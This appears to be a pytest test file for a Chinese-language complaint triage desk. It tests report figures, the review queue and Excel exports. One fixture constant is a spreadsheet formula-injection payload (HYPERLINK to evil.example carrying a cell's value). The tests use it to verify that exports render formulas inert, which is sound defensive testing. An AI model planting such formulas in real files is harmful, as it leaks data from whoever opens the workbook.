"""Every number opens its list, and every list leaves as a workbook that opens clean."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from agent import Settings, TriageAgent
from agent.desk import Desk, QueueFilter
from agent.desk.records import QualityReport
from agent.ledger import Ledger
from agent.ledger.records import Choice
from tests.agent.desk.support import OPERATOR, REVIEWER, ScriptedAgent, complaint, suggestion_for

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看")'
SUITES = [
    ("accepted", {}, None, None),
    ("accepted-auto", {"route": "auto", "sure": 1.0}, None, None),
    ("changed", {"sure": 0.4}, "scj", None),
    ("changed-reviewed", {"sure": 0.4}, "scj", "scj"),
    ("corrected", {}, "", "hbj"),
    ("agreed", {}, "", "cgj"),
]


@pytest.fixture
def busy(ledger: Ledger, real_agent: TriageAgent) -> Desk:
    """A morning's work: accepted, changed, sent back, returned, reviewed and open matters."""
    said = {f"事项{at}：金水区路口": suggestion_for("", **how) for at, (_, how, _, _) in enumerate(SUITES)}  # type: ignore[arg-type]  # keywords of suggestion_for
    desk = Desk(ScriptedAgent(real_agent, said), ledger, Settings())
    for at, (_, _, chosen, right) in enumerate(SUITES):
        ticket = desk.take(complaint(f"事项{at}：金水区路口", channel="电话"), OPERATOR)
        choice = desk.choice_of(ticket.suggestion)
        choice = choice.model_copy(update={"lead": chosen, "assist": ()}) if chosen else choice
        reason = FORMULA if chosen else ""
        decision = desk.decide(
            ticket.matter_id, ticket.suggestion_id, "accept", choice, OPERATOR, reason=reason, seconds=10.0 + at
        )
        if at % 2:
            desk.outcome(ticket.matter_id, "returned", OPERATOR, unit=choice.lead, reason="不归我局")
        if right == choice.lead:
            ledger.review(ticket.matter_id, decision.id, "agree", choice, REVIEWER, changes=())
        elif right:
            corrected = choice.model_copy(update={"lead": right})
            ledger.review(ticket.matter_id, decision.id, "correct", corrected, REVIEWER, changes=())
    desk.take(complaint("没人管的事项：金水区路口"), OPERATOR)
    sent_back = desk.take(complaint("问天气的：金水区路口"), OPERATOR)
    desk.decide(sent_back.matter_id, sent_back.suggestion_id, "return", Choice(), OPERATOR, reason="不属于受理范围")
    return desk


def numbers(report: QualityReport) -> Iterator[tuple[str, int, QueueFilter]]:
    """Every number of a report with the filter that it carries."""
    for rate in (*report.figures, *report.reviewed_figures, *report.shares, *report.departments):
        yield rate.name, rate.n, rate.opens
    for rate in (*report.figures, *report.reviewed_figures):
        yield f"{rate.name} wrong", rate.n - rate.hits, rate.part
    for rate in (*report.shares, *report.departments):
        yield f"{rate.name} part", rate.hits, rate.part
    for week in report.weeks:
        yield "week lead", week.lead.n, week.lead.opens
        yield "week category wrong", week.category.n - week.category.hits, week.category.part
        yield "week returned", week.returned.hits, week.returned.part
    for one in (*report.lead_bins, *report.category_bins):
        yield f"bin {one.bin.low}", one.bin.n, one.opens
    for pair in report.confusion:
        yield f"{pair.proposed} for {pair.right}", pair.n, pair.opens
    for counted in (*report.reasons, *report.fields):
        yield counted.name, counted.n, counted.opens
    for drift in report.drift:
        for moved in drift.most:
            yield moved.label, round(moved.now * drift.n), moved.opens


@pytest.mark.parametrize(
    "asked",
    [QueueFilter(), QueueFilter(days=3), QueueFilter(channel="电话", decided=True), QueueFilter(department="scj")],
    ids=["all", "days", "channel", "department"],
)
def test_every_number_opens_exactly_its_matters(busy: Desk, asked: QueueFilter) -> None:
    """The list behind a number has as many rows as the number says."""
    report = busy.quality(asked)
    assert report.matters == len(busy.entries(asked)) > 0
    found = [(name, n, len(busy.entries(opens))) for name, n, opens in numbers(report)]
    # a label that no matter of the report has says 0 and would open those outside of it
    assert [one for one in found if one[1] != one[2] and one[1]] == []
    assert sum(n > 0 for _, n, _ in found) > 20


def test_queue_holds_what_nobody_reviewed(busy: Desk) -> None:
    """Reviewed matters are gone; after the danger that nobody met the doubtful changed one stands first."""
    danger, *items = busy.queue(QueueFilter(), 50)
    assert (danger.urgent, danger.decision_id) == (True, "")
    assert [item.loss.value for item in items] == sorted((item.loss.value for item in items), reverse=True)
    assert items[0].changed == ("lead",)
    assert "受理员改了主办单位" in items[0].why
    assert len(items) == 4
    assert len(busy.queue(QueueFilter(reviewed=True), 50)) == 3
    assert len(busy.queue(QueueFilter(decided=False), 50)) == 1
    assert len(busy.queue(QueueFilter(), 2)) == 2
    assert busy.queue(QueueFilter(department="nasa"), 50) == ()


def test_returned_after_review_comes_back(busy: Desk) -> None:
    """A unit that sends a reviewed matter back puts it into the queue again."""
    agreed = next(item for item in busy.queue(QueueFilter(reviewed=True), 50) if not item.changed)
    busy.outcome(agreed.matter_id, "returned", OPERATOR, unit="cgj", reason="不归我局")
    assert agreed.matter_id in {item.matter_id for item in busy.queue(QueueFilter(), 50)}


def cells(book: bytes) -> list[str]:
    """Every text cell of every sheet."""
    with CalamineWorkbook.from_filelike(io.BytesIO(book)) as opened:
        sheets = [opened.get_sheet_by_name(name).to_python() for name in opened.sheet_names]
    return [cell for sheet in sheets for row in sheet for cell in row if isinstance(cell, str)]


def test_workbooks_run_no_formula(busy: Desk, tmp_path: Path) -> None:
    """A formula in a reason is text in both workbooks: an apostrophe before it, and no formula in any sheet."""
    for book in (busy.quality_xlsx(), busy.list_xlsx(QueueFilter(), text=True)):
        held = [cell for cell in cells(book) if "HYPERLINK" in cell]
        assert held
        assert all(cell.startswith("'=") for cell in held)
        with zipfile.ZipFile(io.BytesIO(book)) as parts:
            sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets/sheet" in name]
        assert not any("<f>" in sheet for sheet in sheets)


def test_a_list_holds_no_words_of_a_citizen_unless_asked(ledger: Ledger, real_agent: TriageAgent) -> None:
    """The text column comes only on request, and masked."""
    text = "我叫王建国，电话13812345678，金水区路灯坏了"
    desk = Desk(ScriptedAgent(real_agent), ledger, Settings())
    desk.take(complaint(text), OPERATOR)
    assert not any("路灯坏了" in cell for cell in cells(desk.list_xlsx(QueueFilter())))
    with_text = cells(desk.list_xlsx(QueueFilter(), text=True))
    assert any("路灯坏了" in cell for cell in with_text)
    assert not any("13812345678" in cell or "王建国" in cell for cell in with_text)


@pytest.mark.parametrize(
    ("channel", "shown"),
    [("=HYPERLINK(1)", "'=HYPERLINK(1)"), ("微信群 13812345678", "微信群 【手机号】"), ("电话", "电话")],
    ids=["formula", "number", "plain"],
)
def test_a_channel_is_masked_and_runs_no_formula(
    ledger: Ledger, real_agent: TriageAgent, channel: str, shown: str
) -> None:
    """The channel comes from outside as the text does: in a list it holds no number and starts no formula."""
    desk = Desk(ScriptedAgent(real_agent), ledger, Settings())
    desk.take(complaint("金水区路灯坏了", channel=channel), OPERATOR)
    row = cells(desk.list_xlsx(QueueFilter()))
    assert shown in row
    assert channel == shown or channel not in row
    (entry,) = desk.entries(QueueFilter())
    assert "13812345678" not in entry.matter.channel
